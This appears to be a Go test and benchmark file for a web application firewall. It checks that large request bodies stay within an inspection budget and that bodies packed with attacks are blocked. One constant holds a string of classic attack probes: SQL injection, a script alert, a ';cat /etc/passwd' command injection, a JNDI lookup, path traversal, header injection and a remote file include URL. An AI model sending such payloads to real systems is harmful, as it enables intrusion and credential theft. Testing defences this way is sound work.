package waf_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"sealgate/daemon/gateway/waf"
)

// everything is what a new management server applies: all dictionaries block.
func everything() waf.Policies {
	return waf.Policies{Rules: []waf.RulePolicy{
		signatures("block", "SQL Injection", "Cross-Site Scripting", "Command Injection", "Path Traversal", "Known Scanners", "Remote File Inclusion",
			"PHP Injection", "Generic Injection", "Session Fixation", "Java Injection", "Protocol Attack"),
		{Kind: waf.Protocol, Name: "http", Rules: rules("block", "Protocol Enforcement", "Unreadable Body", "Request Body Too Long", "Too Many Parameters")},
	}}
}

// large are bodies of 1 MiB less a little, and smaller ones for the race detector.
func large() map[string]request {
	size := 1<<20 - 100
	if testing.Short() {
		size /= 16
	}
	var many strings.Builder
	for i := 0; many.Len() < size-40; i++ {
		fmt.Fprintf(&many, "f%d=some+text+that+people+write+%d&", i%900, i)
	}
	return map[string]request{
		"one field":    {body: "a=" + strings.Repeat("word ", size/5)},
		"many fields":  {body: many.String()},
		"octet-stream": {body: strings.Repeat("\x00\x01binary\xff", size/9), kind: "application/octet-stream"},
		"json":         {body: `{"a":"` + strings.Repeat("word ", size/5) + `"}`, kind: "application/json"},
		"percents":     {body: "a=" + strings.Repeat("%25", size/3)},
	}
}

// A body of 1 MiB fits into the budget whatever is in it.
func TestLargeBodiesFitTheBudget(t *testing.T) {
	e := engine(t, everything())
	for name, q := range large() {
		_, matches := q.through(e)
		for _, m := range matches {
			if m.Rule == "Inspection Not Completed" {
				t.Errorf("%s: %+v", name, m)
			}
		}
	}
}

// hostile are bodies of 1 MiB that open every gate.
func hostile() map[string]request {
	const all = "1' union select a from b-- <script>alert(1)</script>;cat /etc/passwd ${jndi:ldap://x/a} ../../etc/passwd %0d%0aSet-Cookie: a=b http://192.0.2.1/a.php? "
	field := url.QueryEscape(strings.Repeat(all, 4))
	return map[string]request{
		"attacks in a thousand fields": {body: strings.Repeat("f="+field+"&", (1<<20-100)/(len(field)+3))},
		"attacks in one field":         {body: "f=" + url.QueryEscape(strings.Repeat(all, (1<<20)*3/4/len(all)))},
		"attacks in bytes":             {body: strings.Repeat(all, (1<<20)/len(all)), kind: "application/octet-stream"},
		"attacks in JSON":              {body: `["` + strings.Repeat(strings.ReplaceAll(all, `"`, ` `)+`","`, (1<<20-1000)/(len(all)+3)) + `"]`, kind: "application/json"},
	}
}

func BenchmarkHostile(b *testing.B) {
	e := engine(b, everything())
	for name, q := range hostile() {
		b.Run(name, func(b *testing.B) {
			before, n, ended := processorTime(), 0, 0
			for b.Loop() {
				v, matches := q.through(e)
				if !v.Block {
					b.Fatal("it passes")
				}
				if matches[len(matches)-1].Rule == "Inspection Not Completed" {
					ended++
				}
				n++
			}
			b.ReportMetric(float64((processorTime()-before).Milliseconds())/float64(n), "cpu-ms/op")
			b.ReportMetric(float64(ended)/float64(n), "ended-by-budget")
		})
	}
}

func BenchmarkLarge(b *testing.B) {
	e := engine(b, everything())
	for name, q := range large() {
		b.Run(name, func(b *testing.B) {
			before, n := processorTime(), 0
			for b.Loop() {
				q.through(e)
				n++
			}
			b.ReportMetric(float64((processorTime()-before).Milliseconds())/float64(n), "cpu-ms/op")
		})
	}
}

// BenchmarkChange is a change of the configuration of 50 web services.
func BenchmarkChange(b *testing.B) {
	memory := waf.NewMemory()
	engine(b, everything(), memory)
	for b.Loop() {
		for range 50 {
			engine(b, everything(), memory)
		}
	}
}

func processorTime() time.Duration {
	var u unix.Rusage
	if err := unix.Getrusage(unix.RUSAGE_SELF, &u); err != nil {
		panic(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}
